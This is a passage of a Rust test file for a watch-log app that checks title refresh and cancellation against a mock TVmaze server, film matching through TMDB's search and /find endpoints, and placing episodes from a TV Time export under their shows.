        let e = lib.entry(id).unwrap();
        assert!(
            !e.title.facts.name.starts_with("Stale"),
            "{} was refreshed",
            e.title.facts.name
        );
        assert_eq!(
            e.fields.rating,
            Some(Rating::new(70).unwrap()),
            "user field kept"
        );
        assert_eq!((t.entry_id, &t.name), (id, &e.title.facts.name));
        assert_eq!(t.error, None);
    }
    assert_eq!(
        run.titles.iter().map(|t| t.entry_id).collect::<Vec<_>>(),
        [l.shows.clone(), vec![l.unknown]].concat(),
        "every catalogue title in id order, the hand-typed one not listed"
    );
    assert_eq!(
        lib.entry(l.unknown).unwrap().title.facts.name,
        "Gone From TVmaze"
    );

    // Asked for by id: a hand-typed title is reported, and an unknown id
    // fails the run before any request.
    let cat = catalog(&server);
    let one = cat
        .refresh_all(
            &l.sandbox.db,
            &RefreshSelection::Entries(vec![l.shows[0], l.by_hand]),
            None,
            &CancelToken::new(),
        )
        .unwrap();
    assert_eq!((one.summary.refreshed, one.summary.failed), (1, 1));
    let by_hand = one.titles.iter().find(|t| t.entry_id == l.by_hand).unwrap();
    assert!(
        by_hand.source.is_none() && by_hand.error.is_some(),
        "{by_hand:?}"
    );
    let requests = server.hits().len();
    let e = cat
        .refresh_all(
            &l.sandbox.db,
            &RefreshSelection::Entries(vec![l.shows[0], 4242]),
            None,
            &CancelToken::new(),
        )
        .unwrap_err();
    assert_eq!(code(&e), "not_found", "{e}");
    assert_eq!(server.hits().len(), requests, "no request was made");
}

#[test]
fn cancelling_a_refresh_stops_it_at_once_and_writes_no_title_halfway() {
    let Some((plain, _)) = tvmaze_server() else {
        return;
    };
    let Some(l) = refresh_lib(&plain) else {
        return;
    };
    let route = tvmaze_router(Tvmaze::load().unwrap().with_flexget_shows().unwrap());
    // The third title's answer takes long enough for the cancel to come
    // while it is in flight.
    let slow = format!("/shows/{}", {
        let lib = Library::open(&l.sandbox.db).unwrap();
        lib.entry(l.shows[2])
            .unwrap()
            .title
            .facts
            .external_ids
            .tvmaze
            .unwrap()
    });
    let slow_path = slow.clone();
    let server = Server::start(move |req| {
        let mut r = route(req);
        if req.path == slow_path {
            r.delay = Duration::from_millis(1200);
        }
        r
    });
    let before = {
        let lib = Library::open(&l.sandbox.db).unwrap();
        l.shows
            .iter()
            .map(|&id| (lib.entry(id).unwrap(), lib.episodes(id).unwrap()))
            .collect::<Vec<_>>()
    };

    let cancel = CancelToken::new();
    let canceller = {
        let (cancel, hits) = (cancel.clone(), server.seen.clone());
        thread::spawn(move || {
            let deadline = Instant::now() + Duration::from_secs(5);
            while !hits.lock().unwrap().iter().any(|r| r.path == slow) {
                assert!(
                    Instant::now() < deadline,
                    "the slow title was never asked for"
                );
                thread::sleep(Duration::from_millis(5));
            }
            cancel.cancel();
            Instant::now()
        })
    };
    let seen = Mutex::new(Vec::new());
    let progress = |p: RefreshProgress| seen.lock().unwrap().push(p.done);
    let run = catalog(&server)
        .refresh_all(
            &l.sandbox.db,
            &RefreshSelection::All,
            Some(&progress),
            &cancel,
        )
        .unwrap();
    let ended = Instant::now();
    let cancelled_at = canceller.join().unwrap();
    assert!(
        ended.duration_since(cancelled_at) < Duration::from_millis(500),
        "the request in flight was dropped, not waited for: {:?}",
        ended.duration_since(cancelled_at)
    );
    assert_eq!(
        run.summary,
        RefreshSummary {
            refreshed: 2,
            failed: 0,
            cancelled: true,
            unchanged: 0
        }
    );
    assert_eq!(seen.into_inner().unwrap(), vec![1, 2]);
    assert_eq!(run.titles.len(), 2, "titles not reached are not listed");

    let lib = Library::open(&l.sandbox.db).unwrap();
    for (i, (&id, (entry, episodes))) in l.shows.iter().zip(&before).enumerate() {
        let now = lib.entry(id).unwrap();
        if i < 2 {
            assert!(!now.title.facts.name.starts_with("Stale"), "{i} refreshed");
        } else {
            assert_eq!(&now, entry, "title {i} is exactly as it was");
            assert_eq!(&lib.episodes(id).unwrap(), episodes, "episodes of {i}");
        }
    }
    assert_eq!(lib.info().unwrap().integrity, ["ok"]);
}

// ------------------------------------------------------- TMDB films, /find

/// TMDB's film and `/find` answers. The shared fixtures hold no recorded
/// answer of these endpoints, so these are written after TMDB's API
/// reference: the fields Watchlog reads, beside some it ignores, with the
/// real ids of *Parasite* (2019) and of a *Mr. Robot* episode.
fn tmdb_film_server() -> Server {
    let film = serde_json::json!({
        "adult": false, "backdrop_path": "/TU9NIjwzjoKPwQHoHshkFcQUCG.jpg",
        "genres": [{"id": 35, "name": "Comedy"}, {"id": 53, "name": "Thriller"},
                   {"id": 18, "name": "Drama"}],
        "id": 496243, "imdb_id": "tt6751668", "origin_country": ["KR"],
        "original_language": "ko", "original_title": "기생충",
        "overview": "All unemployed, Ki-taek's family takes peculiar interest in the wealthy Parks.",
        "poster_path": "/7IiTTgloJzvGI1TAYymCfbfl3vT.jpg",
        "production_countries": [{"iso_3166_1": "KR", "name": "South Korea"}],
        "release_date": "2019-05-30", "runtime": 133, "status": "Released",
        "title": "Parasite",
        "credits": {
            "cast": [{"name": "Song Kang-ho", "character": "Kim Ki-taek"},
                     {"name": "Lee Sun-kyun", "character": "Park Dong-ik"}],
            "crew": [{"name": "Bong Joon-ho", "job": "Director"},
                     {"name": "Bong Joon-ho", "job": "Screenplay"},
                     {"name": "Han Jin-won", "job": "Screenplay"}]
        },
        "watch/providers": {"results": {"US": {"flatrate": [
            {"provider_name": "Hulu", "display_priority": 3}]}}}
    });
    let search = serde_json::json!({"page": 1, "total_results": 2, "results": [
        {"id": 496243, "title": "Parasite", "original_title": "기생충",
         "release_date": "2019-05-30", "origin_country": ["KR"],
         "poster_path": "/7IiTTgloJzvGI1TAYymCfbfl3vT.jpg", "overview": "All unemployed…"},
        {"id": 11236, "title": "Parasite", "original_title": "Parasite",
         "release_date": "1982-03-12", "poster_path": null}
    ]});
    let empty = serde_json::json!({"movie_results": [], "person_results": [],
        "tv_results": [], "tv_episode_results": [], "tv_season_results": []});
    Server::start(move |req| {
        if !req.query.contains(&format!("api_key={V3_KEY}")) {
            return Reply::json(
                401,
                r#"{"status_code":7,"status_message":"Invalid API key"}"#,
            );
        }
        let mut found = empty.clone();
        match req.path.as_str() {
            "/3/search/movie" => Reply::json(200, search.to_string()),
            "/3/movie/496243" => Reply::json(200, film.to_string()),
            "/3/find/tt6751668" if req.query.contains("external_source=imdb_id") => {
                found["movie_results"] = serde_json::json!([{"id": 496243, "title": "Parasite"}]);
                Reply::json(200, found.to_string())
            }
            "/3/find/5236339" if req.query.contains("external_source=tvdb_id") => {
                found["tv_episode_results"] = serde_json::json!([{
                    "id": 1043380, "name": "eps1.0_hellofriend.mov", "media_type": "tv_episode",
                    "air_date": "2015-06-24", "episode_number": 1, "season_number": 1,
                    "show_id": 62560, "runtime": 65}]);
                Reply::json(200, found.to_string())
            }
            p if p.starts_with("/3/find/") => Reply::json(200, found.to_string()),
            _ => Reply::json(
                404,
                r#"{"status_code":34,"status_message":"The resource you requested could not be found."}"#,
            ),
        }
    })
}

#[test]
fn tmdb_films_are_found_by_imdb_id_or_by_title_and_year() {
    let server = tmdb_film_server();
    let cat = catalog(&server);
    let d = cat
        .details(&"tmdb:movie/496243".parse().unwrap())
        .expect("film details");
    let f = &d.facts;
    assert_eq!(
        (f.kind, f.name.as_str(), f.year),
        (Kind::Film, "Parasite", Some(2019))
    );
    assert_eq!(f.original_name.as_deref(), Some("기생충"));
    assert_eq!(
        (f.country.as_deref(), f.language.as_deref()),
        (Some("KR"), Some("ko"))
    );
    assert_eq!((f.runtime_minutes, f.episodes), (Some(133), None));
    assert_eq!(f.genres, ["Comedy", "Thriller", "Drama"]);
    assert_eq!(f.external_ids.tmdb.as_deref(), Some("movie/496243"));
    assert_eq!(f.external_ids.imdb.as_deref(), Some("tt6751668"));
    let director: Vec<&str> = f
        .people
        .iter()
        .filter(|p| p.role == watchlog_core::Role::Director)
        .map(|p| p.name.as_str())
        .collect();
    assert_eq!(director, ["Bong Joon-ho"]);
    assert!(d.episodes.is_empty());
    assert_eq!(d.providers, [("US".to_string(), "Hulu".to_string())]);

    // An IMDb id finds the film through /find; no search is made.
    let by_imdb = MatchQuery {
        title: "Parasite".into(),
        kind: Some(Kind::Film),
        external_ids: ExternalIds {
            imdb: Some("tt6751668".into()),
            ..Default::default()
        },
        ..Default::default()
    };
    match cat.match_title(Provider::Tmdb, &by_imdb).unwrap() {
        MatchOutcome::Exact(d) => {
            assert_eq!(d.facts.external_ids.tmdb.as_deref(), Some("movie/496243"))
        }
        other => panic!("expected an exact match, got {other:?}"),
    }
    assert!(!server.hits().iter().any(|h| h.path == "/3/search/movie"));
    // By title: the year tells the 2019 film from the 1982 one.
    let by_title = MatchQuery {
        title: "Parasite".into(),
        year: Some(2019),
        kind: Some(Kind::Film),
        ..Default::default()
    };
    match cat.match_title(Provider::Tmdb, &by_title).unwrap() {
        MatchOutcome::Likely(r) => {
            assert_eq!(
                (r.provider_id.as_str(), r.kind),
                ("movie/496243", Kind::Film)
            );
            assert_eq!(r.catalog_ref().to_string(), "tmdb:movie/496243");
        }
        other => panic!("expected the 2019 film as likely, got {other:?}"),
    }
    // Without a year both fit: the viewer picks.
    let no_year = MatchQuery {
        year: None,
        ..by_title.clone()
    };
    assert!(matches!(
        cat.match_title(Provider::Tmdb, &no_year).unwrap(),
        MatchOutcome::Ambiguous(c) if c.len() == 2
    ));
    // TVmaze lists no films: it is not asked.
    let before = server.hits().len();
    assert_eq!(
        cat.match_title(Provider::Tvmaze, &by_title).unwrap(),
        MatchOutcome::NotFound
    );
    assert_eq!(server.hits().len(), before);
    // A TVDB episode id names its TMDB show, season and number.
    assert_eq!(
        cat.find_tvdb_episode("5236339").unwrap(),
        Some((CatalogRef::new(Provider::Tmdb, "62560"), 1, 1))
    );
    assert_eq!(cat.find_tvdb_episode("1").unwrap(), None);
    for bad in ["tmdb:movie/", "tvmaze:movie/1", "tmdb:movie/12a"] {
        assert!(bad.parse::<CatalogRef>().is_err(), "{bad}");
    }
}

/// Lines `keep` (1-based, the header is line 1) of a fixture of the 2020
/// TV Time export, with its header.
fn tvtime_2020_lines(file: &str, keep: &[usize]) -> Option<SourceFile> {
    let bytes = fixtures::read(&format!(
        "exports/tvtime/tvtime_gdpr_2020_arlessweschler/{file}"
    ))?;
    let text = String::from_utf8(bytes).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let mut out = String::from(lines[0]);
    for &n in keep {
        out.push('\n');
        out.push_str(lines[n - 1]);
    }
    out.push('\n');
    Some(SourceFile {
        name: file.into(),
        bytes: out.into_bytes(),
    })
}

/// The 2020 TV Time export names its watched episodes by TVDB episode id
/// alone. Which show each one is, TMDB's `/find` tells; this stand-in
/// answers for a few of the file's real ids (no recorded answer of
/// `/find` is in the shared fixtures): three are episodes 1–3 of TMDB
/// show 1399, two (also rewatched) its S2E1 and S2E2, and one is unknown.
/// Show 1399's TVDB id is the file's first show, 70533.
#[test]
fn tv_time_watches_known_by_episode_id_alone_are_placed_under_their_show() {
    let files = [
        tvtime_2020_lines("user_tv_show_data.csv", &[2, 3]),
        tvtime_2020_lines("seen_episode.csv", &[2, 3, 4, 5, 91, 92]),
        tvtime_2020_lines("rewatched_episode.csv", &[2, 3]),
    ];
    let Some(files) = files.into_iter().collect::<Option<Vec<_>>>() else {
        return;
    };
    let import = Import::from_files(Some(ImportFormat::TvTime), files).unwrap();
    let sandbox = Sandbox::new();
    let mut lib = Library::open(&sandbox.db).unwrap();
    let r = import
        .run(&mut lib, Mode::Apply, &RunOptions::default())
        .unwrap();
    assert_eq!((r.added, r.episodes, r.loose_episodes), (2, 0, 8), "{r:#?}");
    drop(lib);

    let placed: &[(&str, u32, u32)] = &[
        ("11673", 1, 1),
        ("11674", 1, 2),
        ("11675", 1, 3),
        ("75834", 2, 1),
        ("75835", 2, 2),
    ];
    let server = Server::start(move |req| {
        let ok = |body: Value| Reply::json(200, body.to_string());
        let parts: Vec<&str> = req.path.trim_matches('/').split('/').collect();
        match parts.as_slice() {
            ["3", "find", id] if req.query.contains("external_source=tvdb_id") => {
                let hits: Vec<Value> = placed
                    .iter()
                    .filter(|(p, _, _)| p == id)
                    .map(|(_, s, n)| {
                        serde_json::json!({"id": 1, "show_id": 1399, "season_number": s,
                                           "episode_number": n, "media_type": "tv_episode"})
                    })
                    .collect();
                ok(serde_json::json!({"movie_results": [], "tv_results": [],
                                      "tv_episode_results": hits}))
            }
            ["3", "tv", "1399", "external_ids"] => {
                ok(serde_json::json!({"id": 1399, "imdb_id": "tt0944947", "tvdb_id": 70533}))
            }
            ["3", "search", "tv"] => ok(serde_json::json!({"results": []})),
            _ => Reply::not_found(),
        }
    });
    let cat = catalog(&server);
    let run = cat
        .match_all(&sandbox.db, &MatchSelection::All, None, &CancelToken::new())
        .unwrap();
    assert_eq!(
        (run.episodes_placed, run.episodes_waiting),
        (5, 1),
        "{run:#?}"
    );
    let conn = rusqlite::Connection::open(&sandbox.db).unwrap();
    let history = |conn: &rusqlite::Connection| -> Vec<(String, bool, u32, u32, String)> {
        conn.prepare(
            "SELECT t.name, w.viewing_id IS NOT NULL, w.season, w.number, w.watched_at
             FROM episode_watches w JOIN entries e ON e.id = w.entry_id
             JOIN titles t ON t.id = e.title_id
             ORDER BY w.viewing_id IS NOT NULL, w.season, w.number",
        )
        .unwrap()
        .query_map([], |r| {
            Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?))
        })
        .unwrap()
        .collect::<rusqlite::Result<_>>()
        .unwrap()
    };
    let show = "TVDB 70533".to_string();
    assert_eq!(
        history(&conn),
        [
            (show.clone(), false, 1, 1, "2017-05-02T21:24:51Z".into()),
            (show.clone(), false, 1, 2, "2017-05-03T11:32:41Z".into()),
            (show.clone(), false, 1, 3, "2017-05-03T21:01:41Z".into()),
            (show.clone(), false, 2, 1, "2016-11-18T18:40:15Z".into()),
            (show.clone(), false, 2, 2, "2016-11-18T19:06:15Z".into()),
            // The rewatches, in a rewatch of their own.
            (show.clone(), true, 2, 1, "2019-03-27T23:20:33Z".into()),
            (show.clone(), true, 2, 2, "2019-03-27T23:20:33Z".into()),
        ]
    );
    let viewings: i64 = conn
        .query_row("SELECT count(*) FROM viewings", [], |r| r.get(0))
        .unwrap();
    assert_eq!(viewings, 1);

    // The unknown one is not asked about again; nothing else is asked.
    let asked = server
        .hits()
        .iter()
        .filter(|h| h.path.starts_with("/3/find/"))
        .count();
    assert_eq!(asked, 6);
    let again = cat
        .match_all(&sandbox.db, &MatchSelection::All, None, &CancelToken::new())
        .unwrap();
    assert_eq!((again.episodes_placed, again.episodes_waiting), (0, 1));
    let asked_again = server
        .hits()
        .iter()
        .filter(|h| h.path.starts_with("/3/find/"))
        .count();
    assert_eq!(asked_again, asked);

    // Importing the same file again brings nothing back.
    let mut lib = Library::open(&sandbox.db).unwrap();
    let r = import
        .run(&mut lib, Mode::Apply, &RunOptions::default())
        .unwrap();
    assert_eq!((r.added, r.updated, r.loose_episodes), (0, 0, 0), "{r:#?}");
    assert_eq!(history(&conn).len(), 7);
}

#[test]
fn an_imported_film_is_matched_through_tmdb_and_keeps_the_viewers_fields() {
    let server = tmdb_film_server();
    let sandbox = Sandbox::new();
    let mut lib = Library::open(&sandbox.db).unwrap();
    let film = lib
        .add_entry(&NewEntry {
            title: TitleFacts {
                kind: Kind::Film,
                name: "Parasite".into(),
                year: Some(2019),
                ..Default::default()
            },
            fields: EntryFields {
                status: Status::Completed,
                rating: Some(Rating::new(90).unwrap()),
                ..Default::default()
            },
        })
        .unwrap();
    assert!(
        lib.is_unmatched(film).unwrap(),
        "a film with no TMDB id waits"
    );
    drop(lib);
    // Without a key the film is not tried at all.
    let mut no_key = config(&server);
    no_key.tmdb_key = None;
    let run = BlockingCatalog::new(no_key)
        .unwrap()
        .match_all(&sandbox.db, &MatchSelection::All, None, &CancelToken::new())
        .unwrap();
    assert_eq!((run.matched, run.films_need_key), (0, 1), "{run:#?}");
    assert!(server.hits().is_empty());

    let run = catalog(&server)
        .match_all(&sandbox.db, &MatchSelection::All, None, &CancelToken::new())
        .unwrap();
    assert_eq!((run.matched, run.films_need_key), (1, 0), "{run:#?}");
    assert_eq!(run.titles[0].source.as_deref(), Some("tmdb:movie/496243"));
    let lib = Library::open(&sandbox.db).unwrap();
    let e = lib.entry(film).unwrap();
    assert_eq!(e.title.facts.runtime_minutes, Some(133));
    assert_eq!(e.title.facts.original_name.as_deref(), Some("기생충"));
    assert_eq!(
        e.title.facts.external_ids.tmdb.as_deref(),
        Some("movie/496243")
    );
    assert_eq!(
        (e.fields.status, e.fields.rating),
        (Status::Completed, Some(Rating::new(90).unwrap()))
    );
    assert!(!lib.is_unmatched(film).unwrap());
    // A refresh of the film asks TMDB's film endpoint, not a show's.
    assert_eq!(
        watchlog_core::catalog::refresh_source(&e).map(|r| r.to_string()),
        Some("tmdb:movie/496243".into())
    );
}
